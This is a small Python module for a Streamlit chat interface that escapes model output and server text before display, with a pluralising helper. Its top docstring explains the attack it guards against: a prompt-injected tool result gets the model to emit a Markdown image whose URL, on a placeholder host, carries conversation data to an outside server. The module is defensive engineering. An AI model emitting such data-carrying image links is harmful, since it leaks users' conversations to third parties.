"""Model output is untrusted: shown as Markdown text, never as HTML, and never fetching remote images.

Streamlit escapes HTML in `st.markdown`, but Markdown image syntax (`![](https://host/x.png?data=...)`) would make
every viewer's browser request that URL — a way for a prompt-injected tool result to leak conversation data.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[")


def display_markdown(text: str) -> str:
    """`text` with Markdown images turned into plain text (`![alt](url)` shows literally); links stay links."""
    return _IMAGE.sub(r"!\\[", text)


_MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$])")


def literal(text: str) -> str:
    """`text` with every Markdown character escaped: it shows exactly as written — no image is fetched, no link
    made, no emphasis — for a server's words and anything else that is neither ours nor the model's answer."""
    return _MARKDOWN_SPECIALS.sub(r"\\\1", text)


def plural(n: int, noun: str) -> str:
    """"1 model", "2 models", "0 models" (English: nouns that take an s)."""
    return f"{n} {noun}" if n == 1 else f"{n} {noun}s"
